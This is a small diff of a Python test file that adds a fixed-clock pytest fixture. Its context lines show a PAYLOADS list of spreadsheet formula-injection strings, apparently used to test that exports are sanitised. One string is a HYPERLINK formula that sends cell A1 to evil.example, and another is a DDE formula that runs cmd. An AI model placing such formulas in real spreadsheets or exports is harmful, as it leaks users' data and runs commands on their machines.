@@ -15,6 +15,9 @@ from tests.conftest import World
 from tests.matrix.appeals import decided_sheet
 from tests.security.hostile import poison
 
+# The matrix's rows are fixed months: build them at tests.matrix.MATRIX_NOW.
+pytestmark = pytest.mark.usefixtures("matrix_clock")
+
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
     "+1+cmd|' /C calc'!A0",
